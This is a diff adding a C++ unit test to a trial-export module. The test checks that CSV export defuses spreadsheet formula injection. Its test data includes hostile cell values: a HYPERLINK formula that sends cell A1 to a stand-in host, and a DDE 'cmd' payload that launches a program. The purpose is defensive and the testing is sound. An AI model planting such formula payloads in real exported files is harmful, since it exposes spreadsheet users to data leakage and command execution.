@@ -123,6 +123,29 @@ TEST_CASE("export_trial(csv) quotes every field as RFC 4180 says and lists the d
   CHECK(row.ends_with("\r\n"));
 }
 
+TEST_CASE("export_trial(csv) neutralises cells a spreadsheet would run as formulas") {
+  struct Case {
+    std::string title, cell;
+  };
+  const std::vector<Case> cases = {
+      {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
+      {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""},
+      {"-2+3", "\"'-2+3\""},
+      {"@SUM(1+1)", "\"'@SUM(1+1)\""},
+      {"\t=1+1", "\"'\t=1+1\""},
+      {"\r=1+1", "\"'\r=1+1\""},
+      {"肺がん = lung cancer", "\"肺がん = lung cancer\""},  // only a leading character is dangerous
+  };
+  for (const auto& c : cases) {
+    CAPTURE(c.title);
+    auto t = sample();
+    t["public_title"]["en"] = c.title;
+    const auto csv = linkage::export_trial(ExportFormat::csv, t);
+    CAPTURE(csv);
+    CHECK(csv.find("," + c.cell + ",") != std::string::npos);
+  }
+}
+
 TEST_CASE("ExportWriter streams many records: header once, root once, one page, one line each") {
   auto second = sample();
   second["id"] = "jRCT2031240002";
